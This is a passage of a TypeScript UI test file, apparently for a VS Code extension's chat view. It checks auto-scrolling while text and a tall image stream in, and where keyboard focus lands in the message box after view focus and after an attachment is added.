    for (let k = 0; k < 40; k++) await view.send({ type: 'textDelta', turnId: 'f1', text: `Line ${k} of a long answer.\n\n` });
    await view.frames();
    assert.ok((await bottomGap()) < 5, `at the bottom after the chunks: ${await bottomGap()} px below`);
    // A tall image arrives and loads after the last chunk: its buttons are in view, not below the fold.
    // A 60 × 900 picture, by a short URL as the extension's webview URIs are (a data: URL would pass the URI bound).
    const tall = await view.page.evaluate(async (b64) => URL.createObjectURL(await (await fetch(`data:image/png;base64,${b64}`)).blob()), makePng(60, 900).toString('base64'));
    await view.send({ type: 'image', turnId: 'f1', image: { src: tall, label: 'images/tower.png', uri: 'file:///w/images/tower.png' } });
    await view.page.locator('.turn img[alt="images/tower.png"]').evaluate((img: HTMLImageElement) => (img.complete ? undefined : new Promise((r) => img.addEventListener('load', r, { once: true }))));
    await view.frames();
    await view.send({ type: 'turnEnd', turnId: 'f1', status: 'done', cost: 0.04 });
    await view.frames();
    assert.ok((await bottomGap()) < 5, `the loaded image and its footer in view: ${await bottomGap()} px below`);
    // Scrolled up to read: more text does not pull the view down.
    await view.send({ type: 'turnStart', turn: turn('f2', { prompt: 'And a second one' }) });
    await view.page.evaluate(() => {
      const log = document.getElementById('transcript')!;
      log.scrollTop = 0;
      log.dispatchEvent(new Event('scroll'));
    });
    for (let k = 0; k < 20; k++) await view.send({ type: 'textDelta', turnId: 'f2', text: `More ${k}.\n\n` });
    await view.frames();
    assert.equal(await view.page.evaluate(() => document.getElementById('transcript')!.scrollTop), 0, 'left where the user scrolled');
  });

  it('the message box takes the keyboard when VS Code focuses the view, and again after an attachment is added', async () => {
    await view.send(init());
    const focused = () => view.page.evaluate(() => document.activeElement?.className ?? '');
    await view.page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    assert.notEqual(await focused(), 'input');
    await view.page.evaluate(() => window.dispatchEvent(new Event('focus')));
    await view.page.waitForTimeout(50);
    assert.equal(await focused(), 'input', 'Focus on Chat View puts the keyboard in the message box');
    await view.page.locator('button[aria-label="Attach workspace images"]').focus();
    await view.page.evaluate(() => window.dispatchEvent(new Event('focus')));
    await view.page.waitForTimeout(50);
    assert.match(await focused(), /icon-button/, 'a button the user focused keeps the focus');
    await view.send({ type: 'attachments', attachments: [{ id: 'a1', label: 'images/cat.png', thumb: 'https://file+.vscode-resource.vscode-cdn.net/w/images/cat.png' }] });
    assert.equal(await focused(), 'input', 'after Attach, the message box again');
  });
});
